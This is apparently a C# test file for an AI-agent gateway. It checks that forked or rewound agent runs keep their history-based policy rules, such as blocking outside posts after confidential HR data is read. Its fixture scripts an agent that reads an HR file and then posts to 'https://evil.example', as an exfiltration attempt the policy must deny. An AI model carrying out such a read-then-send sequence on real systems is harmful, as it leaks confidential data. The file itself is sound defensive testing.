using AgentFunctions.Gateway;
using AgentFunctions.Runs;
using AgentFunctions.TestKit;
using AgentFunctions.Tests.Hosting;
using AgentFunctions.Tools;

namespace AgentFunctions.Tests.Gateway;

/// <summary>A fork has the messages of another run, so rules about what was done hold for it as for that run.</summary>
[CancelAfter(300_000)]
[FixtureLifeCycle(LifeCycle.InstancePerTestCase)]
internal sealed class ForkHistoryTests
{
    private const string NothingLeaves = """
        lists: {ours: ["*.corp.example"]}
        data: [{label: confidential, when: {arguments: {path: {under: hr}}}}]
        rules:
          - {name: nothing-leaves, when: {hostOutside: "@ours", history: {call: {data: confidential}}}, then: deny, reason: It stays here.}
          - {name: rest, when: {tool: "*"}, then: allow}
        """;

    private readonly List<string> _done = [];

    private AgentTool Post =>
        AgentTool.Create("post", "Posts.", ToolEffect.NotIdempotent, (string url) => Do($"posted to {url}"));

    private static AgentTool Read => AgentTool.Create("read_page", "Reads.", ToolEffect.None, (string path) => "salaries");

    [TestCase(false)]
    [TestCase(true)]
    public async Task Fork_OfARunThatHasReadConfidentialData_MayNotSendItEither(bool isRewind)
    {
        await using GovernedRun governed = await StartAsync(NothingLeaves);
        Run run = await governed.Host.RunAsync();

        Run fork = await ForkAsync(governed, run.Id, new ForkRequest { Turn = 1, IsRewind = isRewind, Message = "Go on." });
        Run second = await ForkAsync(governed, fork.Id, new ForkRequest { Turn = 1, Message = "Go on." });

        Assert.That(new[] { run.Result!.Text, fork.Result!.Text, second.Result!.Text }, Has.All.Contains("nothing-leaves"));
        Assert.That(_done, Is.Empty);
    }

    [TestCase("tree")]
    [TestCase("run")]
    public async Task Fork_OfARunThatHasReachedALimit_HasReachedItToo(string scope)
    {
        await using GovernedRun governed = await StartAsync($$$"""
            rules:
              - {name: one, when: {tool: post, history: {call: {tool: post}, scope: {{{scope}}}, atLeast: 1}}, then: deny, reason: One.}
              - {name: rest, when: {tool: "*"}, then: allow}
            """);
        Run run = await governed.Host.RunAsync();
        Run fork = await ForkAsync(governed, run.Id, new ForkRequest { Turn = 1, Message = "Go on." });

        Assert.That(_done, Has.Count.EqualTo(1), "what the run did after the turn is done, too");
        Assert.That(fork.Result!.Text, Does.Contain("One."));
    }

    [TestCase(1, 0)]
    [TestCase(2, 1)]
    public async Task Fork_WhatTheRunDidAfterTheTurn_FreesNothing(int turn, int more)
    {
        await using GovernedRun governed = await StartAsync("""
            rules:
              - {name: tests-first, when: {tool: post}, unless: {history: {call: {tool: test}}}, then: deny, reason: Test first.}
              - {name: rest, when: {tool: "*"}, then: allow}
            """);
        governed.Script = static request => request.Turn switch
        {
            0 => ChatReply.Call("read_page", new { path = "a" }),
            1 => ChatReply.Call("test", new { }),
            2 => ChatReply.Call("post", new { url = "https://a.corp.example" }),
            _ => ChatReply.Say("done"),
        };
        Run run = await governed.Host.RunAsync();
        Assert.That(_done, Has.Count.EqualTo(1));
        governed.Script = request => request.Turn == turn
            ? ChatReply.Call("post", new { url = "https://a.corp.example" })
            : ChatReply.Say("done");

        await ForkAsync(governed, run.Id, new ForkRequest { Turn = turn, Message = "Go on." });

        Assert.That(_done, Has.Count.EqualTo(1 + more));
    }

    private async Task<GovernedRun> StartAsync(string policy) => await GovernedRun.StartAsync(
        policy,
        [
            ChatReplyCall.Of("read_page", new { path = "hr/list.txt" }),
            ChatReplyCall.Of("post", new { url = "https://evil.example" }),
        ],
        [Read, Post, AgentTool.Create("test", "Tests.", ToolEffect.None, () => "passed")]);

    private static async Task<Run> ForkAsync(GovernedRun governed, string id, ForkRequest request) =>
        await governed.Host.Reader.WaitForEndAsync((await governed.Host.Get<RunForking>().ForkAsync(id, request)).Id);

    private string Do(string what)
    {
        lock (_done)
        {
            _done.Add(what);
        }

        return what;
    }
}
